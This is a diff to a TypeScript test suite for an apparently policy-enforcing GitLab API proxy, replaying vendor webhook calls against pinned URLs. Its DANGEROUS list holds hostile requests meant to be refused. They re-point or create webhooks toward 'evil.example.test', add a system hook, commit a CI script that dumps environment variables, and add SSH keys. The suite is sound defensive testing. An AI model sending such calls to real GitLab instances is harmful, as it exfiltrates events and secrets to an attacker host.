@@ -29,6 +29,19 @@ const call = (line: string, body?: Record<string, unknown>): Call => {
 const SHA = 'e83c5163316f89bfbde7d9ab23ca2e25604af290';
 const P = '/api/v4/projects/1';
 const webhookSecret = randomBytes(16).toString('hex');
+/** Each hook-managing preset's settings.webhook_url here, and where its hooks point. */
+const PINS: Record<string, string> = {
+  glean: 'https://glean.example.test/gitlab/',
+  zoom: 'https://integrations.zoom.example.test/gitlab',
+  echoes: 'https://api.echoes.example.test/gitlab',
+  calero: 'https://n8n.calero.example.test/webhook/',
+  sentry: 'https://sentry.example.test/extensions/gitlab/webhook/',
+};
+/** In a replayed path: the id of the hook the replay's last POST .../hooks created. */
+const HOOK = '{hook}';
+/** In a dangerous call: the id of a hook another team created on project 1. */
+const OTHER_HOOK = '{other}';
+let otherHook = '';
 
 const RENOVATE: Call[] = [
   call('GET /api/v4/user'),
@@ -159,7 +172,7 @@ const REPLAY: Record<string, Call[]> = {
     ...GLEAN_READ,
     call('GET /api/v4/projects/3/hooks'),
     call('POST /api/v4/projects/3/hooks', {
-      url: 'https://glean.example.test/gitlab/webhook', push_events: true, note_events: true, issues_events: true,
+      url: `${PINS.glean!}webhook`, push_events: true, note_events: true, issues_events: true,
       merge_requests_events: true, wiki_page_events: true, token: webhookSecret,
     }),
   ],
@@ -169,7 +182,9 @@ const REPLAY: Record<string, Call[]> = {
     call('GET /api/v4/projects/acme%2Fdocs'),
     call('GET /api/v4/groups?min_access_level=30'),
     call('GET /api/v4/projects/3/hooks'),
-    call('POST /api/v4/projects/3/hooks', { url: 'https://integrations.zoom.example.test/gitlab', push_events: true, merge_requests_events: true, token: webhookSecret }),
+    call('POST /api/v4/projects/3/hooks', { url: `${PINS.zoom!}/acme`, push_events: true, merge_requests_events: true, token: webhookSecret }),
+    call(`PUT /api/v4/projects/3/hooks/${HOOK}`, { note_events: true }),
+    call(`DELETE /api/v4/projects/3/hooks/${HOOK}`),
   ],
   echoes: [
     call('GET /api/v4/user'),
@@ -188,7 +203,9 @@ const REPLAY: Record<string, Call[]> = {
     call('PUT /api/v4/groups/100/labels/31', { new_name: 'echoes:new-feature' }),
     call('DELETE /api/v4/groups/100/labels/31'),
     call('GET /api/v4/groups/100/hooks'),
-    call('POST /api/v4/groups/100/hooks', { url: 'https://api.echoes.example.test/gitlab', merge_requests_events: true, token: webhookSecret }),
+    call('POST /api/v4/groups/100/hooks', { url: PINS.echoes!, merge_requests_events: true, token: webhookSecret }),
+    call(`PUT /api/v4/groups/100/hooks/${HOOK}`, { url: `${PINS.echoes!}/v2`, merge_requests_events: true }),
+    call(`DELETE /api/v4/groups/100/hooks/${HOOK}`),
     call(`GET ${P}`),
     call(`GET ${P}/users`),
     call(`GET ${P}/merge_requests?state=merged`),
@@ -202,7 +219,9 @@ const REPLAY: Record<string, Call[]> = {
     call(`GET ${P}/repository/commits/${SHA}`),
     call(`GET ${P}/repository/tags`),
     call(`GET ${P}/hooks`),
-    call(`POST ${P}/hooks`, { url: 'https://api.echoes.example.test/gitlab', merge_requests_events: true, token: webhookSecret }),
+    call(`POST ${P}/hooks`, { url: PINS.echoes!, merge_requests_events: true, token: webhookSecret }),
+    call(`PUT ${P}/hooks/${HOOK}`, { url: `${PINS.echoes!}/v2` }),
+    call(`DELETE ${P}/hooks/${HOOK}`),
   ],
   calero: [
     call('GET /api/v4/user'),
@@ -223,8 +242,9 @@ const REPLAY: Record<string, Call[]> = {
     call('DELETE /api/v4/projects/acme%2Fdocs/releases/v2.0.0'),
     call('GET /api/v4/projects/acme%2Fdocs/repository/files/seats%2Freport.csv?ref=main'),
     call('GET /api/v4/projects/acme%2Fdocs/repository/tree'),
-    call('POST /api/v4/projects/acme%2Fdocs/hooks', { url: 'https://n8n.calero.example.test/webhook/gitlab', issues_events: true, token: webhookSecret }),
-    call('GET /api/v4/projects/acme%2Fdocs/hooks/14'),
+    call('POST /api/v4/projects/acme%2Fdocs/hooks', { url: `${PINS.calero!}gitlab`, issues_events: true, token: webhookSecret }),
+    call(`GET /api/v4/projects/acme%2Fdocs/hooks/${HOOK}`),
+    call(`DELETE /api/v4/projects/acme%2Fdocs/hooks/${HOOK}`),
   ],
   renovate: RENOVATE,
   'renovate-automerge': [...RENOVATE, ...RENOVATE_AUTOMERGE],
@@ -258,7 +278,8 @@ const REPLAY: Record<string, Call[]> = {
     call(`HEAD ${P}/repository/files/src%2Fmain.ts?ref=main`),
     call(`GET ${P}/repository/files/src%2Fmain.ts?ref=main`),
     call(`GET ${P}/repository/files/src%2Fmain.ts/blame?ref=main`),
-    call(`POST ${P}/hooks`, { url: 'https://sentry.example.test/extensions/gitlab/webhook/', push_events: true, merge_requests_events: true, token: webhookSecret }),
+    call(`POST ${P}/hooks`, { url: PINS.sentry!, push_events: true, merge_requests_events: true, token: webhookSecret }),
+    call(`DELETE ${P}/hooks/${HOOK}`),
   ],
 };
 
@@ -294,8 +315,10 @@ const DANGEROUS: (Call & { why: string })[] = [
   { why: 'add a system hook', ...call('POST /api/v4/hooks', { url: 'https://evil.example.test' }) },
   { why: 'change instance settings', ...call('PUT /api/v4/application/settings', { signup_enabled: true }) },
   { why: 'read the instance license', ...call('GET /api/v4/license') },
-  { why: 'delete a webhook by id (maybe another team\'s)', ...call(`DELETE ${P}/hooks/13`) },
-  { why: 're-point a webhook by id', ...call(`PUT ${P}/hooks/13`, { url: 'https://evil.example.test/' }) },
+  { why: 'delete another team\'s webhook', ...call(`DELETE ${P}/hooks/${OTHER_HOOK}`) },
+  { why: 're-point another team\'s webhook', ...call(`PUT ${P}/hooks/${OTHER_HOOK}`, { url: 'https://evil.example.test/' }) },
+  { why: 're-point it into the vendor\'s own pin', ...call(`PUT ${P}/hooks/${OTHER_HOOK}`, { url: 'https://api.echoes.example.test/gitlab' }) },
+  { why: 'create a webhook pointing elsewhere', ...call(`POST ${P}/hooks`, { url: 'https://evil.example.test/', push_events: true }) },
   { why: 'commit a CI configuration', ...call(`POST ${P}/repository/files/.gitlab-ci.yml`, { branch: 'main', content: 'x: {script: env}', commit_message: 'ci' }) },
   { why: 'rotate a project access token', ...call(`POST ${P}/access_tokens/self/rotate`) },
   { why: 'add an SSH key to the proxy user', ...call('POST /api/v4/user/keys', { title: 'x', key: 'ssh-ed25519 AAAA' }) },
@@ -310,6 +333,8 @@ const DANGEROUS: (Call & { why: string })[] = [
 ];
 
 const PRESETS = presetFiles(PRESET_DIR).map((f) => basename(f).replace(/\.ya?ml$/, ''));
+const asksForPin = (name: string): boolean =>
+  compilePreset(readPreset(join(PRESET_DIR, `${name}.yaml`), `presets/${name}`), [])?.settings.has('webhook_url') === true;
 
 function presetRules(name: string): string[] {
   const problems: PolicyProblem[] = [];
@@ -320,25 +345,36 @@ function presetRules(name: string): string[] {
 
 let h: Harness;
 beforeAll(async () => {
-  const clients = PRESETS.map((p) => `  ${p}:\n    extends: presets/${p}\n`).join('');
-  h = await startHarness({ policies: { 'vendors.yaml': `clients:\n${clients}` } });
+  const clients = PRESETS.map((p) => `  ${p}:\n    extends: presets/${p}\n${asksForPin(p) ? `    settings: { webhook_url: "${PINS[p]!}" }\n` : ''}`).join('');
+  const otherTeam = '  other-team:\n    allow:\n      - POST /api/v4/projects/:id/hooks\n';
+  h = await startHarness({ policies: { 'vendors.yaml': `clients:\n${clients}${otherTeam}` } });
+  const created = await send(await h.token('other-team'), call(`POST ${P}/hooks`, { url: 'https://ci.acme.example.test/hook', push_events: true }));
+  otherHook = String((JSON.parse(created.body) as { id: number }).id);
 });
 afterAll(async () => h?.close());
 
-async function send(token: string, c: Call): Promise<{ status: number; forwarded: boolean; received: number; auditLine: Harness['audit'][number] }> {
+async function send(token: string, c: Call): Promise<{ status: number; forwarded: boolean; received: number; targetRead: boolean; auditLine: Harness['audit'][number]; body: string }> {
   const before = h.standin.requests.length;
   const auditBefore = h.audit.length;
   const headers: Record<string, string> = { authorization: `Bearer ${token}`, ...c.headers };
   if (c.body) headers['content-type'] = 'application/json';
   const res = await fetch(h.url + c.path, { method: c.method, headers, ...(c.body ? { body: JSON.stringify(c.body) } : {}) });
-  await res.arrayBuffer();
+  const body = await res.text();
   await h.waitForAudit(auditBefore + 1);
   const got = h.standin.requests.slice(before);
-  const forwarded = got.length === 1 && got[0]!.method === c.method && got[0]!.url === c.path;
-  return { status: res.status, forwarded, received: got.length, auditLine: h.audit[auditBefore]! };
+  // A rule with target: reads the object (GET on the same path) before forwarding the call.
+  const last = got.at(-1);
+  const forwarded = last !== undefined && last.method === c.method && last.url === c.path
+    && got.slice(0, -1).every((r) => r.method === 'GET' && r.url === c.path) && got.length <= 2;
+  const targetRead = c.method !== 'GET' && got[0]?.method === 'GET' && got[0].url === c.path;
+  return { status: res.status, forwarded, received: got.length, targetRead, auditLine: h.audit[auditBefore]!, body };
 }
 
 describe('presets', () => {
+  it('replays every preset that asks for a webhook URL with one', () => {
+    expect(Object.keys(PINS).sort()).toEqual(PRESETS.filter(asksForPin).sort());
+  });
+
   it('are all in the replay list, and every preset in it exists', () => {
     expect(PRESETS.sort()).toEqual(Object.keys(REPLAY).sort());
     expect(PRESETS).toEqual(expect.arrayContaining(['zoom', 'glean-readonly', 'glean', 'echoes', 'packit', 'calero', 'renovate', 'renovate-automerge', 'backstage', 'sentry']));
@@ -361,8 +397,11 @@ describe('presets', () => {
       it('forwards every documented call, and each rule is used by one of them', async () => {
         const token = await h.token(name);
         const used = new Set<string>();
-        for (const c of REPLAY[name]!) {
+        let hook = '';
+        for (const template of REPLAY[name]!) {
+          const c = { ...template, path: template.path.replace(HOOK, hook) };
           const r = await send(token, c);
+          if (c.method === 'POST' && c.path.endsWith('/hooks')) hook = String((JSON.parse(r.body) as { id: number }).id);
           expect({ call: `${c.method} ${c.path}`, forwarded: r.forwarded, decision: r.auditLine.decision })
             .toEqual({ call: `${c.method} ${c.path}`, forwarded: true, decision: 'allow' });
           // The rule keeps the preset line it was written on.
@@ -375,10 +414,13 @@ describe('presets', () => {
 
       it('refuses every dangerous call before GitLab sees it', async () => {
         const token = await h.token(name);
-        for (const c of DANGEROUS) {
+        for (const dangerous of DANGEROUS) {
+          const c = { ...dangerous, path: dangerous.path.replace(OTHER_HOOK, otherHook) };
           const r = await send(token, c);
-          expect({ why: c.why, received: r.received, refused: r.status >= 400 && r.status < 500, decision: r.auditLine.decision })
-            .toEqual({ why: c.why, received: 0, refused: true, decision: 'deny' });
+          // A target: rule may read the hook first (GET on its path); nothing else reaches GitLab.
+          const reached = r.received - (r.targetRead ? 1 : 0);
+          expect({ why: c.why, reached, refused: r.status >= 400 && r.status < 500, decision: r.auditLine.decision })
+            .toEqual({ why: c.why, reached: 0, refused: true, decision: 'deny' });
         }
       });
     });
